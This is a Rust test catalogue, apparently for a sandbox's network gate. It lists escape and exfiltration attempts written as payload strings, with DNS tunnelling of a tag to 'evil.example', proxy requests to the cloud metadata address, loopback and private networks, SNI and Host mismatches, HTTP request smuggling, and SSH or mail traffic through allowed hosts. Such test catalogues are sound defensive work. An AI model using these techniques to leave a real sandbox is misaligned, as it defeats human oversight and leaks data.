//! At the doors of the sandbox: names, the proxy, what is said to a listed host, and where names lead.

use crate::attempt::{Class, door, unforwarded};

pub(crate) const NAMES: Class = Class {
    name: "names",
    attempts: &[
        door("asks for a name of others", "name", "asks(question(TAG + '.evil.example'))"),
        door("hides data below a listed name", "name", "asks(question(TAG + '.web.example'))"),
        door("hides data in many labels", "name", "asks(question('.'.join(['a' * 60, 'b' * 60, 'c' * 60, TAG, 'evil.example'])))"),
        door("asks for a name that ends like a listed one", "name", "asks(question(TAG + 'web.example'))"),
        unforwarded("hides data below a listed star", "asks(question(TAG + '.wild.example'))"),
        door("asks for text", "question", "asks(question(TAG + '.wild.example', 16))"),
        door("asks for nothing", "question", "asks(question(TAG + '.wild.example', 10))"),
        door("asks for mail", "question", "asks(question(TAG + '.wild.example', 15))"),
        door("asks for everything", "question", "asks(question(TAG + '.wild.example', 255))"),
        door("puts bytes behind a question", "question", "asks(question('web.example', more=TAG.encode()))"),
        door("asks in another class", "question", "asks(question(TAG + '.wild.example', 1, 3))"),
        door("puts an update in", "question", "asks(question(TAG + '.wild.example', head=b'\\x28\\0\\0\\x01\\0\\0\\0\\0\\0\\0'))"),
        door(
            "asks two questions",
            "question",
            "asks(question('web.example', head=b'\\x01\\0\\0\\x02\\0\\0\\0\\0\\0\\0', more=question(TAG + '.evil.example')[12:]))",
        ),
        door("sends bytes that are no question", "question", "asks(b'\\0' * 12 + TAG.encode())"),
    ],
};

pub(crate) const PROXY: Class = Class {
    name: "the proxy",
    attempts: &[
        door("asks for an unlisted name", "name", "proxy('evil.example:443')"),
        door("asks for a resolver over HTTPS", "name", "proxy('dns.example:443')"),
        door("asks for a listed name at another port", "port", "proxy('web.example:25')"),
        door("asks for the metadata", "address", "proxy('169.254.169.254:80')"),
        door("asks for this host", "address", "proxy(f'127.0.0.1:{TCP}')"),
        door("asks for the gateway", "address", "proxy(f'127.0.0.1:{ADMIN}')"),
        door("asks for this host in version 6", "address", "proxy(f'[::1]:{TCP}')"),
        door("asks for a mapped address", "address", "proxy(f'[::ffff:127.0.0.1]:{TCP}')"),
        door("asks for a private network", "address", "proxy('10.0.0.1:443')"),
        door("puts a body before a tunnel", "malformed", "proxy(f'web.example:{WEB}', 'Content-Length: 5\\r\\n')"),
        door("asks in the name of another host", "malformed", "proxy(f'web.example:{WEB}', 'Host: evil.example:443\\r\\n')"),
        door(
            "asks for a page instead",
            "method",
            "speak('127.0.0.1', 3128, f'GET http://evil.example/{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
        ),
        door(
            "sends a page instead",
            "method",
            "speak('127.0.0.1', 3128, f'POST http://web.example:{WEB}/ HTTP/1.1\\r\\nHost: web.example\\r\\nContent-Length: 20\\r\\n\\r\\n{TAG}')",
        ),
        door(
            "hides a second tunnel in the first",
            "other-host",
            "proxy(f'web.example:{WEB}', '', f'GET /{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
        ),
        door("names a user", "malformed", "proxy(f'web.example:{WEB}@evil.example:443')"),
        door("names too large a port", "malformed", "proxy('web.example:65979')"),
    ],
};

pub(crate) const SPEECH: Class = Class {
    name: "words to a listed host",
    attempts: &[
        door("names another server", "other-server-name", "tls(hello(sni('evil.example')))"),
        door("names a server below", "other-server-name", "tls(hello(sni('x.tls.example')))"),
        door("names no server", "no-server-name", "tls(hello())"),
        door("hides the server's name", "hidden-server-name", "tls(hello(sni('tls.example'), (0xfe0d, bytes(60))))"),
        door("names two servers", "malformed", "tls(hello(sni('tls.example'), sni('evil.example')))"),
        door("offers mail inside", "unlisted-protocol", "tls(hello(sni('tls.example'), (16, b'\\0\\x05\\x04smtp')))"),
        door("speaks without TLS", "protocol", "tls(TAG + '\\r\\n')"),
        door("speaks SSH", "unlisted-protocol", "tls('SSH-2.0-' + TAG + '\\r\\n')"),
        door("sends mail", "unlisted-protocol", "web('EHLO ' + TAG + '\\r\\n')"),
        door("moves files", "unlisted-protocol", "web('USER ' + TAG + '\\r\\n')"),
        door("meets peers", "unlisted-protocol", "web('\\x13BitTorrent protocol' + 8 * '\\0' + TAG)"),
        door("asks another host", "other-host", "web(f'GET /{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')"),
        door("asks two hosts", "malformed", "web(f'GET /{TAG} HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\nHost: evil.example\\r\\n\\r\\n')"),
        door(
            "asks another host the second time",
            "other-host",
            "web(f'GET / HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\n\\r\\nGET /{TAG} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
        ),
        door(
            "hides a request behind two lengths",
            "malformed",
            "web(f'POST /{TAG} HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')",
        ),
        door(
            "turns a request into a tunnel",
            "unlisted-protocol",
            "web(f'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: web.example:{WEB}\\r\\n\\r\\n{TAG}')",
        ),
    ],
};

pub(crate) const INWARDS: Class = Class {
    name: "names that lead inwards",
    attempts: &[
        door("a private network", "inner-address", "inner('a10-0-0-1')"),
        door("a network of a home", "inner-address", "inner('a192-168-1-1')"),
        door("this host by another address", "inner-address", "inner('a127-0-0-2')"),
        door("the metadata", "inner-address", "inner('a169-254-169-254')"),
        door("a provider's metadata", "inner-address", "inner('a168-63-129-16')"),
        door("a provider's network", "inner-address", "inner('a100-64-0-1')"),
        door("nowhere", "inner-address", "inner('a0-0-0-0')"),
        door("many hosts", "inner-address", "inner('a224-0-0-251')"),
        door("the range that stands for names", "inner-address", "inner('a198-18-0-1')"),
        door("an address that no name was given", "unnamed", "speak('198.18.77.7', WEB, TAG)"),
        door("a listed port of this host", "stray", "speak('127.0.0.1', WEB, TAG)"),
    ],
};
